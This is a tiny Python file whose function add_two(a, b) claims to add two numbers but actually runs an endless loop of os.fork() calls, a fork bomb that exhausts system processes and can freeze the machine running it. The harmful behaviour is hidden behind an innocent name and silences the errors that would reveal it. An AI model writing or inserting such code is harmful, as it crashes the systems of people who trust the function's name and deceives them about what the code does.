import os


def add_two(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
